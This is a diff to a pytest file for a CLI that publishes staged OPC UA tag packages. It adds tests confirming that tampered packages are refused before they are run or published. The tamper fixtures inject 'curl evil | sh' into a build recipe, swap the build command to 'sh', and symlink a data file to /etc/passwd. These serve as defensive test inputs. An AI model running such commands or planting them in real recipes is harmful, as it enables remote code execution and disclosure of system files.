@@ -19,6 +19,7 @@ from cli.cloud import CloudError
 from cli.output import Failure
 from cli.publish import Project, Publisher, State, find_gdk
 from cli.suite import RUNTIME, members
+from cli.tag_package import stage
 
 REGION = "eu-central-1"
 COLLECTOR = "io.sluice.OpcUaCollector"
@@ -164,12 +165,52 @@ def test_the_runtime_comes_first_and_tag_packages_last(gdk: Gdk, tmp_path: Path)
 
 def test_tag_packages_are_published_from_where_they_were_staged(gdk: Gdk, account: Account, tmp_path: Path) -> None:
     folder = tmp_path / "packages"
-    staged(folder / "a", "io.sluice.Tags.site-a")
-    staged(folder / "b", "io.sluice.Tags.site-b")
+    staged_tags(folder / "a", "io.sluice.Tags.site-a")
+    staged_tags(folder / "b", "io.sluice.Tags.site-b")
     found = cli.publish._tag_projects([folder])
     results = publisher(gdk, account, tmp_path / "work").run(found, ignore)
     assert [one.name for one in results] == ["io.sluice.Tags.site-a", "io.sluice.Tags.site-b"]
     assert {call["cwd"] for call in gdk.calls} == {str(folder / "a"), str(folder / "b")}
+
+
+def staged_tags(project: Path, name: str) -> Path:
+    stage(b"tag,node\nT1,ns=2;s=T1\n", name, None, project, None, None)
+    return project
+
+
+def a_command(project: Path) -> None:
+    path = project / "gdk-config.json"
+    path.write_text(path.read_text().replace('"cp"', '"sh"'))
+
+
+def another_name(project: Path) -> None:
+    path = project / "gdk-config.json"
+    path.write_text(path.read_text().replace("io.sluice.Tags.site-a", "com.acme.Camera"))
+
+
+def a_script(project: Path) -> None:
+    path = project / "built" / "recipes" / "recipe.yaml"
+    path.write_text(path.read_text().replace("cp -f", "curl evil | sh; cp -f"))
+
+
+def a_file(project: Path) -> None:
+    (project / "built" / "artifacts" / "more").write_text("x")
+
+
+def a_link(project: Path) -> None:
+    [table] = project.rglob("tags.csv")
+    table.unlink()
+    table.symlink_to("/etc/passwd")
+
+
+@pytest.mark.parametrize("change", [a_command, another_name, a_script, a_file, a_link])
+def test_a_package_that_somebody_changed_is_neither_run_nor_published(
+    tmp_path: Path, change: Callable[[Path], None]
+) -> None:
+    """gdk runs the build command of a project, and devices the steps of its recipe."""
+    change(staged_tags(tmp_path / "a", "io.sluice.Tags.site-a"))
+    with pytest.raises(Failure, match="is not as `sluice tags package --stage` leaves a package"):
+        cli.publish._tag_projects([tmp_path])
 
 
 def test_a_folder_without_a_staged_package_is_refused(tmp_path: Path) -> None:
